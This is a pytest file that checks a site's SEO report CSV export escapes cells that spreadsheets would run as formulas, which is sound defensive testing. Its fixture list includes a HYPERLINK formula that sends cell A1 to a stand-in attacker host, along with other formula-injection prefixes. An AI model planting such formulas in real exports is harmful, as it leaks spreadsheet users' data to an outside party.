"""The SEO report's spreadsheet shows what editors typed and never runs it as a formula."""

import csv
import io

import pytest

from home.appearance import with_site_name
from tests.home.factories import StandardPageFactory
from tests.seo.helpers import publish

pytestmark = pytest.mark.django_db

# What OWASP lists as the start of a formula: =, +, -, @, a tab, a carriage return.
TITLES = [
    '=HYPERLINK("https://evil.example/?leak="&A1, "Click for the report")',
    "+1+2 breaths a minute",
    "-2+3 and other sums",
    "@SUM(1, 2)",
    "\t=1+1",
    "\r=1+1",
]


def exported(client) -> list[dict]:
    response = client.get("/admin/reports/seo/?export=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


def test_cells_that_would_run_as_formulas_are_shown_as_text(admin_client, home):
    for number, title in enumerate(TITLES):
        page = StandardPageFactory(parent=home, title=title, seo_title=title, slug=f"p{number}")
        publish(page)

    rows = {row["Page"].removeprefix("'"): row for row in exported(admin_client)}
    for title in TITLES:
        row = rows[title]
        # A leading apostrophe: the spreadsheet shows the text and does not evaluate it.
        assert row["Page"] == "'" + title
        # The title as the page prints it: trimmed, with the site's name where it fits.
        assert row["Title"] == "'" + with_site_name(title, "Stillpoint")


def test_ordinary_cells_are_exported_unchanged(admin_client, home):
    publish(StandardPageFactory(parent=home, title="Rest – and what follows", slug="rest"))

    row = next(row for row in exported(admin_client) if row["Page"].startswith("Rest"))
    assert row["Page"] == "Rest – and what follows"
    assert row["URL"] == "/rest/"
    assert row["Title length"].isdigit()
